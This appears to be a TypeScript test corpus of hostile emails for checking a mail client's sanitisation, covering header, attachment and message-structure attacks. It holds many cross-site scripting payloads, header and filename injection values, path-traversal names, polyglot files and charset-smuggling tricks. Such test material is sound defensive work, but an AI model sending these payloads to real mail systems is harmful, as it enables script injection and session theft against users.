/** Attacks that are not in the body but in the mail around it: headers, names, charsets, parts inside parts, attachments. */
import type { Attack } from "./attack.ts";

const INLINE = "<script>%JS%</script><img src=x onerror=%JS%><svg onload=%JS%>";
const encoded = (text: string): string => `=?utf-8?B?${Buffer.from(text).toString("base64")}?=`;
const base64 = (text: string): string => Buffer.from(text).toString("base64");

const HEADERS: readonly Omit<Attack, "family">[] = [
  { subject: "<script>alert(top.owned=%ID%)</script>" },
  { subject: "<img src=x onerror=alert(top.owned=%ID%)>" },
  { subject: encoded("<svg onload=alert(top.owned=1)>") },
  { subject: encoded("a\r\nBcc: everyone@evil.test\r\n\r\n<script>alert(top.owned=1)</script>") },
  { subject: "\u202e<script>\u0000%JS%</script>" },
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is meant as it is written
  { subject: "{{constructor.constructor('%JS%')()}}${%JS%}" },
  { subject: "</title><script>%JS%</script>" },
  { subject: `${"<b>".repeat(300)}` },
  { from: '"<script>alert(top.owned=%ID%)</script>"' },
  { from: "<img src=x onerror=alert(top.owned=%ID%)>" },
  { from: encoded('"><img src=x onerror=alert(top.owned=1)>') },
  { from: '"help@shop.test" ' },
  { from: '"javascript:%JS%//"' },
  { from: "\u202eHeard\u202c <admin@shop.test>," },
  { headers: ['Reply-To: "<img src=x onerror=%JS%>" <"<script>%JS%</script>"@evil.test>'] },
  { headers: ['Cc: "<svg onload=%JS%>" <x@evil.test>, javascript:%JS%'] },
  {
    headers: [
      "X-Mailer: <script>%JS%</script>",
      "List-Id: <script>%JS%</script>",
      "List-Unsubscribe: <javascript:%JS%>",
    ],
  },
  { headers: ["Authentication-Results: shop.test; dkim=<script>%JS%</script>"] },
  { headers: ["X-Face: <img src=%URL%>", "Face: %URL%", "X-Image-URL: %URL%", "Link: <%URL%>; rel=preload"] },
  { headers: ["Content-Location: %URL%", "Content-Base: %URL%", "Refresh: 0;url=%URL%"] },
  { headers: ["Set-Cookie: heard_session=stolen", "Content-Security-Policy: script-src *", "Location: %URL%"] },
  { headers: ["Auto-Submitted: auto-replied (<script>%JS%</script>)"] },
];

const SVG_FILE =
  "<svg xmlns='http://www.w3.org/2000/svg' onload='%JS%'><script>%JS%</script><image href='%URL%'/></svg>";
const HTML_FILE =
  "<!doctype html><script>%JS%</script><img src=%URL%><form action=%URL%><input autofocus onfocus=%JS%>";
const GIF = "GIF89a/*\u0001\u0000*/=1;%JS%;//<script>%JS%</script>";
const part = (type: string, name: string, body: string | Buffer, more: readonly string[] = []) => ({
  html: `<p>See what is attached.</p><img src="cid:pic@evil.test"><a href="cid:pic@evil.test">open</a>`,
  attachments: [
    { headers: [`Content-Type: ${type}`, `Content-Disposition: attachment; filename="${name}"`, ...more], body },
  ],
});
const inline = (type: string, name: string, body: string | Buffer) => ({
  html: `<p>A picture.</p><img src="cid:pic@evil.test"><img src="cid:PIC@evil.test"><object data="cid:pic@evil.test"></object><iframe src="cid:pic@evil.test"></iframe>`,
  attachments: [
    {
      headers: [`Content-Type: ${type}; name="${name}"`, "Content-Disposition: inline", "Content-ID: <pic@evil.test>"],
      body,
    },
  ],
});

const ATTACHED: readonly Omit<Attack, "family">[] = [
  part("text/html", "invoice.html", HTML_FILE),
  part("image/svg+xml", "logo.svg", SVG_FILE),
  part("image/png", "picture.png.html", HTML_FILE),
  part("image/png", "picture.png", SVG_FILE),
  part("image/gif", "polyglot.gif", GIF),
  part(
    "application/xhtml+xml",
    "page.xhtml",
    `<html xmlns="http://www.w3.org/1999/xhtml"><script>%JS%</script></html>`,
  ),
  part(
    "text/xml",
    "data.xml",
    `<?xml-stylesheet href="%URL%" type="text/xsl"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">%JS%</x:script>`,
  ),
  part(
    "application/pdf",
    "order.pdf",
    "%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\ntrailer<</Root 1 0 R>>",
  ),
  part(
    "multipart/x-mixed-replace; boundary=x",
    "feed.bin",
    `--x\r\nContent-Type: text/html\r\n\r\n${HTML_FILE}\r\n--x--`,
  ),
  part("text/html; charset=utf-7", "seven.html", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-"),
  part("application/octet-stream", "../../../index.html", HTML_FILE),
  part("text/plain", "<img src=x onerror=%JS%>.txt", "harmless"),
  part("text/plain", 'a";filename=b.html;x="', HTML_FILE),
  part("text/plain", "invoice\u202elmth.txt", HTML_FILE),
  part("text/javascript", "code.js", "%JS%"),
  part("application/x-shockwave-flash", "movie.swf", "FWS\u0005"),
  part("application/hta", "run.hta", HTML_FILE),
  part(
    "text/calendar; method=REQUEST",
    "meet.ics",
    "BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nSUMMARY:<script>%JS%</script>\r\nDESCRIPTION:<img src=x onerror=%JS%>\r\nURL:javascript:%JS%\r\nATTACH:%URL%\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n",
  ),
  part(
    "message/rfc822",
    "inner.eml",
    `From: x@evil.test\r\nSubject: <script>%JS%</script>\r\nContent-Type: text/html\r\n\r\n${HTML_FILE}`,
  ),
  part(
    'message/external-body; access-type=URL; URL="http://evil.test/%ID%"',
    "out.txt",
    "Content-Type: text/html\r\n\r\n",
  ),
  part(
    "text/vcard",
    "card.vcf",
    "BEGIN:VCARD\r\nFN:<script>%JS%</script>\r\nPHOTO;VALUE=URI:%URL%\r\nURL:javascript:%JS%\r\nEND:VCARD",
  ),
  inline("image/svg+xml", "pic.svg", SVG_FILE),
  inline("text/html", "pic.html", HTML_FILE),
  inline("image/gif", "pic.gif", GIF),
  inline('image/png"; onerror="%JS%', 'pic.png" onerror="%JS%', "not a picture"),
  inline("image/bmp", "pic.bmp", `BM${HTML_FILE}`),
];

const alternative = (parts: readonly string[]) => ({
  type: "multipart/alternative; boundary=edge",
  body: `${parts.map((each) => `--edge\r\n${each}`).join("\r\n")}\r\n--edge--\r\n`,
});

const WHOLE: readonly NonNullable<Attack["whole"]>[] = [
  {
    type: "text/html; charset=utf-7",
    body: "+ADw-script+AD4-%JS%+ADw-/script+AD4- +ADw-img src+AD0-x onerror+AD0-%JS%+AD4-",
  },
  { type: "text/html; charset=utf-16", body: Buffer.from(`\ufeff${"<script>alert(top.owned=1)</script>"}`, "utf16le") },
  {
    type: "text/html; charset=utf-8",
    body: Buffer.from(
      "\xc0\xbcscript\xc0\xbealert(top.owned=1)\xc0\xbc/script\xc0\xbe<img src=x onerror=alert(top.owned=1)>",
      "latin1",
    ),
  },
  {
    type: "text/html; charset=iso-2022-jp",
    body: Buffer.from(
      "\x1b$B<script>\x1b(Balert(top.owned=1)</script><img src=x onerror=alert(top.owned=1)>",
      "latin1",
    ),
  },
  { type: 'text/html; charset="x\\"><script>%JS%</script>"', body: INLINE },
  {
    type: "text/html; charset=gbk",
    body: Buffer.from('<img title="\x81" onerror=alert(top.owned=1) src=x>', "latin1"),
  },
  { type: "text/html; charset=hz-gb-2312", body: '<img title=~{" onerror=%JS% src=x ~}">' },
  {
    type: "text/html; charset=shift_jis",
    body: Buffer.from('<img alt="\x83" src=x onerror=alert(top.owned=1)>', "latin1"),
  },
  { type: "TEXT/HTML", body: INLINE },
  { type: "text/html;", body: INLINE },
  { type: "text/x-html", body: INLINE },
  { type: "text/enriched", body: `<bold>x</bold><param>%URL%</param>${INLINE}` },
  { type: "text/markdown", body: "![x](%URL%) [click](javascript:%JS%) <script>%JS%</script>" },
  {
    type: "application/xhtml+xml",
    body: `<html xmlns="http://www.w3.org/1999/xhtml"><body onload="%JS%"><script>%JS%</script></body></html>`,
  },
  { type: "image/svg+xml", body: SVG_FILE },
  {
    type: "text/x-amp-html",
    body: "<html amp4email><amp-img src=%URL%></amp-img><script async src=https://cdn.test/v0.js></script></html>",
  },
  alternative([
    "Content-Type: text/plain\r\n\r\nplain <script>%JS%</script>",
    `Content-Type: text/html; charset=utf-7\r\n\r\n+ADw-script+AD4-%JS%+ADw-/script+AD4-${INLINE}`,
  ]),
  alternative([
    "Content-Type: text/plain\r\n\r\nplain",
    `Content-Type: text/html\r\nContent-Transfer-Encoding: base64\r\n\r\n${base64("<script>alert(top.owned=1)</script><img src=x onerror=alert(top.owned=1)>")}`,
  ]),
  alternative([
    "Content-Type: text/plain\r\n\r\nplain",
    "Content-Type: text/html\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n=3Cscript=3E%JS%=3C/script=3E=3Cimg src=3Dx onerror=3D%JS%=3E",
  ]),
  alternative([
    "Content-Type: text/plain\r\n\r\nplain",
    `Content-Type: text/calendar; method=REQUEST\r\n\r\nBEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nSUMMARY:${INLINE}\r\nX-ALT-DESC;FMTTYPE=text/html:${INLINE}\r\nEND:VEVENT\r\nEND:VCALENDAR`,
  ]),
  alternative([
    "Content-Type: text/plain\r\n\r\nplain",
    "Content-Type: text/x-amp-html\r\n\r\n<script>%JS%</script>",
    `Content-Type: text/html\r\n\r\n${INLINE}`,
  ]),
  {
    type: 'multipart/related; boundary=edge; start="<evil>"',
    body: `--edge\r\nContent-Type: text/html\r\nContent-ID: <root>\r\nContent-Location: %URL%\r\n\r\n<base href="%URL%"><img src="logo.png">${INLINE}\r\n--edge\r\nContent-Type: image/svg+xml\r\nContent-ID: <evil>\r\nContent-Location: logo.png\r\n\r\n${SVG_FILE}\r\n--edge--`,
  },
  {
    type: "multipart/mixed; boundary=edge",
    body: `--edge\r\nContent-Type: message/rfc822\r\n\r\nFrom: a@evil.test\r\nSubject: ${INLINE}\r\nContent-Type: text/html\r\n\r\n${INLINE}\r\n--edge--`,
  },
  { type: "message/rfc822", body: `From: a@evil.test\r\nSubject: inner\r\nContent-Type: text/html\r\n\r\n${INLINE}` },
  {
    type: "multipart/report; report-type=delivery-status; boundary=edge",
    body: `--edge\r\nContent-Type: text/html\r\n\r\n${INLINE}\r\n--edge\r\nContent-Type: message/delivery-status\r\n\r\nReporting-MTA: dns; <script>%JS%</script>\r\n\r\nFinal-Recipient: rfc822; <img src=x onerror=%JS%>\r\nAction: failed\r\nStatus: 5.1.1\r\nDiagnostic-Code: smtp; ${INLINE}\r\n\r\n--edge--`,
  },
  { type: 'multipart/mixed; boundary=""', body: `--\r\nContent-Type: text/html\r\n\r\n${INLINE}\r\n----` },
  { type: "multipart/mixed; boundary=edge", body: `--edge\r\nContent-Type: text/html\r\n\r\n${INLINE}` },
  { type: "text/plain; charset=utf-7", body: "+ADw-script+AD4-%JS%+ADw-/script+AD4-" },
  {
    type: "text/plain; format=flowed; delsp=yes",
    body: '> <script>%JS%</script> \r\n> java \r\n> script:%JS%\r\nhttps://fine.test/ \r\n"onclick=%JS%',
  },
  { type: "text/html; charset=utf-8\r\nContent-Type: text/plain", body: INLINE },
  { type: "text/html\r\nContent-Transfer-Encoding: x-uuencode", body: `begin 644 x.html\r\n${INLINE}\r\nend` },
];

export const mails: readonly Attack[] = [
  ...HEADERS.map((attack) => ({ family: "header", ...attack })),
  ...ATTACHED.map((attack) => ({ family: "attachment", ...attack })),
  ...WHOLE.map((whole) => ({ family: "shape of the mail", whole })),
];
